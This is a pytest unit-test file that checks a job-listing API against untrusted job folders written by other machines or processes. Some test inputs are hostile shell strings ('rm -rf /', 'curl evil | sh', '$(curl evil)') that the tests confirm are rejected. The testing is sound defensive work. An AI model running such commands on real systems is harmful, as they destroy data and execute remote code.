"""Jobs that somebody else's folder claims, and those of other machines: listed with care, and never carried out."""

from __future__ import annotations

import json
import os
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from unicodedata import category

import pytest

from cutaway.run import Run
from cutaway.run.command_words import run_word
from cutaway.run.documents import write_document
from cutaway.run.jobs import JobProgress, write_progress
from cutaway.run.process import this_process
from cutaway.studio.index import RunIndex
from cutaway.studio.jobs.listing import Listing
from tests.unit.studio.one_run import Asked, studio_of

JOB = "20200101-000000-0000000a"
ELSEWHERE = {"machine": "elsewhere", "host": "elsewhere", "pid": 1, "started": "1"}


@pytest.fixture
def run(tmp_path: Path) -> Run:
    return Run.create(tmp_path / "runs" / "theirs")


@pytest.fixture
def asked(run: Run) -> Iterator[Asked]:
    with studio_of(run.path.parent) as studio:
        yield studio


def _write(run: Run, job: str = JOB, name: str = "job.json", **content: Any) -> None:
    told = {"kind": "analyze", "created": time.time(), "by": ELSEWHERE} if name == "job.json" else {}
    write_document(run.storage, f"jobs/{job}/{name}", {**told, **content})


class TestAFolderOfSomebodyElse:
    def test_nothing_that_waits_in_it_is_started(self, asked: Asked, run: Run) -> None:
        _write(run, by=this_process())
        rows = asked.client.get("/api/jobs").json()["data"]
        assert [one["state"] for one in rows] == ["waiting"]
        time.sleep(1)
        assert not (run.path / "jobs" / JOB / "process.json").exists()

    def test_cancelling_signals_nobody(self, asked: Asked, run: Run) -> None:
        # It says that this very process does the job.
        _write(run)
        _write(run, name="process.json", **this_process())
        answer = asked.client.post(f"/api/jobs/{JOB}/cancel", json={})
        assert answer.status_code == 200
        assert (run.path / "jobs" / JOB / "cancel").exists()
        time.sleep(0.2)

    def test_its_texts_are_bounded_and_steer_nothing(self, asked: Asked, run: Run) -> None:
        _write(run, what="<script>\x1b[31m" + "x" * 10_000, command="rm -rf /\u202e", evaluation="zero", other=["a"])
        _write(run, name="end.json", state="failed", error=f"in {run.path}/secret: \x00no", ended="never")
        [row] = asked.client.get("/api/jobs").json()["data"]
        assert len(row["what"]) <= 300
        assert "\x1b" not in row["what"]
        assert (row["command"], row["evaluation"], row["other"], row["ended"]) == ("", None, "", None)
        assert str(run.path) not in json.dumps(row)

    @pytest.mark.parametrize(
        ("told", "shown"),
        [
            ({"what": "class distances"}, " class-distances --evaluation 0"),
            ({"what": ""}, " --evaluation 0"),
            ({"what": "map", "command": "curl evil | sh"}, " map --evaluation 0"),
            ({"what": "map; curl evil | sh"}, ""),
            ({"what": "$(curl evil)"}, ""),
            ({"what": "map", "evaluation": "zero"}, ""),
        ],
    )
    def test_a_command_to_copy_is_one_of_ours(
        self, asked: Asked, run: Run, told: dict[str, object], shown: str
    ) -> None:
        _write(run, **{"evaluation": 0, **told})
        [row] = asked.client.get("/api/jobs").json()["data"]
        assert row["command"] == (f"cutaway analyze {run_word(run.path, relative=True)}{shown}" if shown else "")

    def test_one_from_the_future_keeps_nobody_from_starting_the_same(self, asked: Asked, run: Run) -> None:
        _write(run, created=time.time() + 1e9)
        assert [one["state"] for one in asked.client.get("/api/jobs").json()["data"]] == ["lost"]

    def test_numbers_that_are_none_harm_nobody(self, asked: Asked, run: Run) -> None:
        _write(run, created=float("nan"))
        _write(run, name="progress.json", done=-5, total=1 << 70, rate=float("inf"), eta="soon", stage={"a": 1})
        [row] = asked.client.get("/api/jobs").json()["data"]
        assert (row["done"], row["total"], row["rate"], row["eta"], row["stage"]) == (0, None, None, None, "")
        assert row["state"] == "lost"

    def test_thousands_of_jobs_are_answered_in_pages(self, asked: Asked, run: Run) -> None:
        for number in range(300):
            _write(run, f"20200101-000000-{number:08x}")
        answer = asked.client.get("/api/jobs", params={"limit": 10}).json()
        assert answer["total"] == 100
        assert answer["data"][0]["id"] == f"20200101-000000-{299:08x}"

    def test_a_log_without_an_end_is_cut(self, asked: Asked, run: Run) -> None:
        _write(run)
        with (run.path / "jobs" / JOB / "log.txt").open("wb") as file:
            file.write(os.urandom(1 << 20) + b"\n")
            file.truncate(1 << 30)
        answer = asked.client.get(f"/api/jobs/{JOB}/log").json()["data"]
        assert all(len(line) <= 2000 for line in answer["lines"])
        assert not any(category(char) == "Cc" for line in answer["lines"] for char in line)


class TestAnotherMachine:
    def test_a_job_runs_as_long_as_its_counter_moves(self, run: Run) -> None:
        now = 0.0
        index = RunIndex(run.path.parent, cache=False).start()
        try:
            listing = Listing(index, clock=lambda: now)
            _write(run)
            _write(run, name="process.json", **ELSEWHERE)
            states = []
            for beat in (1, 2, 2, 2, 3):
                write_progress(run, JOB, JobProgress(beat=beat))
                states += [one.state for one in listing.jobs()]
                now += 6.0
            assert states == ["running", "running", "running", "lost", "running"]
        finally:
            index.close()

    def test_one_that_is_lost_stays_so_when_jobs_of_another_run_are_looked_at(self, run: Run) -> None:
        now = 0.0
        Run.create(run.path.parent / "other")
        index = RunIndex(run.path.parent, cache=False).start()
        try:
            listing = Listing(index, clock=lambda: now)
            _write(run)
            _write(run, name="process.json", **ELSEWHERE)
            listing.jobs()
            now += 100.0
            assert [one.state for one in listing.jobs()] == ["lost"]
            other = next(row.id for row in index.table().rows if row.name == "other")
            listing.jobs(other)
            assert [one.state for one in listing.jobs()] == ["lost"]
        finally:
            index.close()

    def test_those_that_run_there_take_no_place_here(self, asked: Asked, run: Run) -> None:
        for number in range(3):
            _write(run, f"20200101-000000-{number:08x}")
            _write(run, f"20200101-000000-{number:08x}", "process.json", **ELSEWHERE)
        assert {one["state"] for one in asked.client.get("/api/jobs").json()["data"]} == {"running"}
        assert asked.studio.jobs._count() == 0

    def test_one_that_waits_there_can_be_cancelled_here(self, asked: Asked, run: Run) -> None:
        _write(run)
        answer = asked.client.post(f"/api/jobs/{JOB}/cancel", json={}).json()["data"]
        assert answer["state"] == "cancelled"

    def test_one_that_waits_there_is_given_up_after_a_day(self, asked: Asked, run: Run) -> None:
        _write(run)
        _write(run, "20200101-000000-0000000b", created=time.time() - 100_000)
        rows = asked.client.get("/api/jobs").json()["data"]
        assert {one["id"][-1]: one["state"] for one in rows} == {"a": "waiting", "b": "lost"}
